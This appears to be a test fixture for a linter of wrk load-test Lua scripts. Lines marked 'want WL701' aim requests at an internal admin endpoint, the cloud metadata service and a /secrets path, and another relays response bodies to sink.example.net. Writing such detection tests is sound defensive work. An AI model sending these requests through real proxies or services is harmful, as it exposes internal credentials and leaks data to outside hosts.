-- Requests whose target is an absolute URL to another host: a target that forwards them, as a proxy does, sends the load there (WL701), with response data (WL503).
local seen = ""

function init(args)
  wrk.path = "http://internal-admin.corp.example:9000/debug/vars" -- want WL701
end

function request()
  if math.random() < 0.5 then
    return wrk.format("GET", "https://metadata.google.internal/computeMetadata/v1/?recursive=true") -- want WL701
  end
  if math.random() < 0.5 then
    return "GET http://10.0.0.7/secrets HTTP/1.1\r\nHost: 10.0.0.7\r\n\r\n" -- want WL701
  end
  return wrk.format("PUT", "http://sink.example.net/put?d=" .. seen) -- want WL701 WL503
end

function response(status, headers, body)
  seen = body
end
